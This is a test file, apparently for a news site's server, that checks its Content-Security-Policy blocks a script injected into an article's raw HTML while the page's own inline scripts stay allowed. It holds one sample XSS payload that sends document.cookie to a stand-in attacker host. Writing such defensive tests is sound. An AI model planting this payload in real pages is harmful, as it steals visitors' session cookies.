import { createHash } from 'node:crypto';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { startTestServer, type TestServer } from './helpers/test-server';
import { content } from '../server/db/schema';
import { contentRow } from '../server/content/content-row';
import { articleFixture } from '../fixtures/article';

// Defence in depth: suppose the raw_html sanitizer let editor HTML through untouched. The policy must still not allow
// the injected script, while the page's own inline scripts keep running.
vi.mock('../ui/html/sanitize-embed', async (original) => ({
  ...(await original<typeof import('../ui/html/sanitize-embed')>()),
  sanitizeRawHtml: (html: string) => html,
}));

const INJECTED = "fetch('https://evil.example/?c='+document.cookie)";
const story = articleFixture({
  _id: 'csp-inyectado',
  canonical_url: '/nacion/articulo/inyectado/csp-inyectado/',
  content_elements: [
    { _id: 'p1', type: 'text', content: 'Texto.' },
    { _id: 'raw', type: 'raw_html', content: `<p>Hola</p><script>${INJECTED}</script>` },
  ],
});
const sha = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ seed: false });
  await server.database.db.insert(content).values(contentRow(story));
});
afterAll(() => server?.close());

it('an inline script injected into a story is not allowed by the CSP; the page’s own inline scripts are', async () => {
  const res = await fetch(`${server.url}${story.canonical_url}?_website=semana`);
  const html = await res.text();
  const scriptSrc =
    res.headers
      .get('content-security-policy')
      ?.split('; ')
      .find((d) => d.startsWith('script-src ')) ?? '';
  expect(html).toContain(`<script>${INJECTED}</script>`); // the simulated sanitizer hole reached the page
  expect(scriptSrc).not.toContain(sha(INJECTED));
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  // Every other inline script that runs (not JSON data, not src) is the page's own and is allowed by its hash.
  const own = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(([, attrs = '', body = '']) => !/\bsrc=|type="application\//.test(attrs) && body !== INJECTED)
    .map(([, , body = '']) => body);
  expect(own.length).toBeGreaterThan(0); // the view beacon
  for (const body of own) expect(scriptSrc).toContain(sha(body));
});
